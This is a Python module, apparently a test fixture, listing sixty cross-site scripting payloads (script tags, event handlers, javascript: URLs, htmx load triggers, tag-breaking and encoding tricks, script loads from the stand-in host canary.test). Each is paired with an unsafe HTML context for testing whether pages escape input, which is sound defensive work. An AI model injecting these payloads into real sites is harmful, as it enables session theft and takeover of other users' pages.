"""Sixty texts that run something wherever a page takes them for markup.

Each tells us when it does: by a dialog, by asking for `/canary` or for another host, or by what the
policy refuses to run. `WHERE` is the careless page that proves it; some wait for one that decodes
what it was given first.
"""

import html
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import unquote


@dataclass(frozen=True, slots=True)
class Payload:
    """What somebody wrote, and the kind of place where it would do harm."""

    text: str
    where: str

    def careless(self) -> str:
        """The body of a page that shows it without care."""
        hole, decoded = WHERE[self.where]
        return hole.replace("HERE", decoded(self.text))


def _as_it_is(text: str) -> str:
    return text


def _unescaped(text: str) -> str:
    return text.encode().decode("unicode_escape")


def _normal(text: str) -> str:
    return unicodedata.normalize("NFKC", text)


WHERE: dict[str, tuple[str, Callable[[str], str]]] = {
    "text": ("<p>HERE</p>", _as_it_is),
    "double quotes": ('<input value="HERE">', _as_it_is),
    "single quotes": ("<input value='HERE'>", _as_it_is),
    "no quotes": ("<input value=HERE>", _as_it_is),
    "title": ("<title>HERE</title>", _as_it_is),
    "textarea": ("<textarea>HERE</textarea>", _as_it_is),
    "option": ("<select><option>HERE</option></select>", _as_it_is),
    "comment": ("<!-- HERE -->", _as_it_is),
    "script": ('<script type="application/json">"HERE"</script>', _as_it_is),
    "style": ("<style>HERE</style>", _as_it_is),
    "drawing": ("<svg><text>HERE</text></svg>", _as_it_is),
    "data": ("<svg><title><![CDATA[HERE]]></title></svg>", _as_it_is),
    "link": ('<a id="go" href="HERE">source</a>', _as_it_is),
    "unescaped twice": ("<p>HERE</p>", html.unescape),
    "unquoted": ("<p>HERE</p>", unquote),
    "script unescaped": ("<p>HERE</p>", _unescaped),
    "made normal": ("<p>HERE</p>", _normal),
}
TEXTS = {
    # The first is what a text in the place of an address begins with, when it holds them all.
    "link": [
        "javascript:alert(1)//",
        " javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "javascript://kmapp/%0aalert(1)",
    ],
    "text": [
        "<script>alert(1)</script>",
        "<ScRiPt/x>alert(1)</sCrIpT>",
        "<script src=/canary.js></script>",
        "<script src=//canary.test/x.js></script>",
        "<script type=module src=/canary.mjs></script>",
        "<img src=/canary.png>",
        "<img src=x: onerror=alert(1)>",
        "<img srcset=/canary.png>",
        "<image src=/canary.png>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><image href=/canary.svg /></svg>",
        "<math><mi><img src=/canary.png></mi></math>",
        "<body onpageshow=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video poster=/canary.png>",
        "<audio src=x: onerror=alert(1)>",
        "<iframe src=/canary></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=/canary></object>",
        "<embed src=/canary>",
        "<link rel=stylesheet href=/canary.css>",
        "<style>@import '/canary.css';</style>",
        "<p style=background:url(/canary.png)>",
        "<meta http-equiv=refresh content=0;url=/canary>",
        "<base href=//canary.test/><img src=x.png>",
        "<i hx-get=/canary hx-trigger=load></i>",
        "<i hx-post=/canary hx-trigger=load></i>",
        "<i data-hx-get=/canary data-hx-trigger=load></i>",
        "<i hx-get=/canary hx-trigger='every 10ms'></i>",
        "<i hx-on::load=alert(1)></i><i hx-on:click=alert(1)></i>",
        "<form hx-get=/canary hx-trigger=load><input name=a></form>",
        "<i data-poll=/canary data-poll-seconds=1></i>",
        "\u202e<img src=/canary.png>\u200b",
    ],
    "double quotes": [
        '"><img src=/canary.png>',
        '" onfocus=alert(1) autofocus x="',
        '" hx-get=/canary hx-trigger=load x="',
    ],
    "single quotes": ["'><img src=/canary.png>", "' hx-get=/canary hx-trigger=load x='"],
    "no quotes": ["x onfocus=alert(1) autofocus"],
    "title": ["</title><img src=/canary.png>"],
    "textarea": ["</textarea><img src=/canary.png>"],
    "option": ["</option></select><img src=/canary.png>"],
    "script": ["</script><img src=/canary.png>"],
    "style": ["</style><img src=/canary.png>"],
    "drawing": ["</text></svg><img src=/canary.png>"],
    "data": ["]]></title></svg><img src=/canary.png>"],
    "unescaped twice": ["&lt;img src=/canary.png&gt;"],
    "unquoted": ["%3Cimg src=/canary.png%3E"],
    "script unescaped": [r"\u003cimg src=/canary.png\u003e"],
    "made normal": ["＜img src=/canary.png＞"],
    # The last: all that follows is swallowed.
    "comment": ["--><img src=/canary.png><!--"],
}
PAYLOADS = [Payload(text, where) for where, texts in TEXTS.items() for text in texts]
